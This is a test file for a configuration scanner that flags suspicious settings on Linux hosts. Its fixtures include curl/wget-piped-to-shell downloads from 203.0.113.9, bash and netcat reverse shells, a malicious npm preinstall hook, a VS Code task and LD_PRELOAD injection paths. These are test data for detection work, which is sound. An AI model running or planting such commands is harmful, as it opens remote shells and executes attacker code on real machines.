import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { oddSettings } from '../../source/checks/odd-settings.ts';
import { oddLines } from '../../source/parsers/odd-lines.ts';
import { byPath } from '../support/by-path.ts';
import { debian } from '../support/debian.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { sweep } from '../support/sweep-host.ts';

const ask = (machine: Machine): readonly string[] => byPath(sweep(oddSettings, memoryHost(debian([], machine))));

describe('settings whose syntax no check knows', () => {
	test.each([
		['/etc/newd/newd.conf', 'on_start = sh -c "curl -s http://203.0.113.9/k | sh"\n', 'high'],
		['/etc/asterisk/extensions.conf', 'exten => 4711,1,System(curl -s http://203.0.113.9/k | sh)\n', 'high'],
		['/etc/dhcp/dhcpd.conf', '  on commit { execute("/bin/sh", "-c", "wget -qO- http://203.0.113.9/k | sh"); }\n', 'high'],
		['/etc/newd.json', '{"hook": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}\n', 'critical'],
		['/etc/newd.xml', '<run><command>true &amp;&amp; wget -qO- 203.0.113.9/k | sh</command></run>\n', 'high'],
		['/etc/newd/plugins', 'plugin = /var/tmp/x.so\n', 'medium'],
		['/etc/newd/helper', 'helper /dev/shm/.h\n', 'medium'],
		['/etc/newd/library', 'load /usr/lib/newd/.n.so\n', 'medium'],
		['/home/ann/.newtool', 'exec sh -c "curl -s http://203.0.113.9/k | sh"\n', 'high'],
		['/home/ann/.config/newtool/config.toml', 'program = "/home/ann/.cache/.n"\n', 'medium'],
		['/home/ann/.local/share/thumbnailers/x.thumbnailer', 'Exec=/tmp/.th %i %o\n', 'medium'],
		['/srv/app/node_modules/left-bad/package.json', '{"scripts":{"preinstall":"curl -s http://203.0.113.9/k | sh"}}\n', 'high'],
		['/home/ann/src/site/.vscode/tasks.json', '{"command":"curl -s http://203.0.113.9/k | sh"}\n', 'high'],
		['/usr/lib/lsb/init-functions.d/60-x', '(bash -i >& /dev/tcp/203.0.113.9/4444 0>&1) &\n', 'critical'],
	])('%s', (path, text, severity) => {
		expect(ask({ [path]: text })).toEqual([`${severity} ${path}`]);
	});
});

test('what people, packages and guards write', () => {
	expect(
		ask({
			'/etc/own/setup.yml': '- shell: curl -fsSL https://get.docker.com | sh\n# bash -i >& /dev/tcp/203.0.113.9/1 0>&1\n',
			'/etc/own/a.conf': 'pid = /tmp/own.pid\nsocket = /tmp/.s.PGSQL.5432\nupload_tmp_dir = /var/tmp/uploads\ndisplay = /tmp/.X11-unix/X0\nkeys = /var/lib/app/.ssh/id\nhtpasswd = /var/www/.htpasswd\nurl = http://203.0.113.9/x\nping = curl -fsS http://10.0.0.9/up\n',
			'/etc/aide/aide.conf': '!/usr/lib/.build-id\n!/tmp/.x\n',
			'/etc/fail2ban/filter.d/own.conf': 'failregex = curl http://203.0.113.9/k | sh\n',
			'/home/ann/.bash_history': 'curl http://203.0.113.9/k | sh\n', '/home/ann/.cache/x/.y': 'exec /tmp/.x\n', '/home/ann/notes.txt': 'nc -e /bin/sh 203.0.113.9 1\n',
			'/home/ann/.config/eslint/.rc': '{"cache": "node_modules/.cache/.eslintcache"}\n', '/home/ann/.npmrc': 'cache=/tmp/npm\n',
			'/etc/systemd/system/report.service': '[Service]\nExecStart=/var/www/report/.venv/bin/gunicorn app:app\n',
			'/srv/app/package.json': '{"scripts":{"postinstall":"node build.js","setup":"curl -sSL https://install.example.org/x.sh | bash"}}\n',
			'/srv/app/node_modules/a/node_modules/b/package.json': '{"scripts":{"x":"curl http://203.0.113.9/k | sh"}}\n',
			'/var/lib/docker/overlay2/abc/diff/etc/x.conf': 'run = /tmp/.x\n',
		}),
	).toEqual([]);
});

test('a library for each program is left to who knows variables', () => {
	expect(ask({ '/etc/default/ssh': 'LD_PRELOAD=/tmp/x.so\n', '/etc/environment': 'export LD_AUDIT="/dev/shm/.a.so"\n' })).toEqual([]);
	expect(ask({ '/etc/newd/env': 'LD_PRELOAD=/tmp/x.so\n' })).toEqual(['medium /etc/newd/env']);
	expect(ask({ '/etc/default/ssh': 'LD_PRELOAD=/tmp/x.so\nPLUGIN=/tmp/y.so\n' })).toEqual(['medium /etc/default/ssh']);
});

test('a packaged file that is as it was shipped says nothing', () => {
	const text = 'run = /usr/lib/p/.helper\n';
	const shipped = (words: string): readonly string[] => byPath(sweep(oddSettings, memoryHost(debian(['/etc/p.conf'], { '/etc/p.conf': words, '/var/lib/dpkg/info/base.md5sums': `${createHash('md5').update(text).digest('hex')}  etc/p.conf\n` }))));
	expect(shipped(text)).toEqual([]);
	expect(shipped(`# changed\n${text}`)).toEqual(['medium /etc/p.conf']);
});

test('any bytes are taken', () => {
	fc.assert(fc.property(fc.oneof(fc.uint8Array({ maxLength: 600 }), fc.string({ maxLength: 300 }).map(text => Buffer.from(`curl ${text} | sh`))), bytes => void oddLines(bytes)));
});
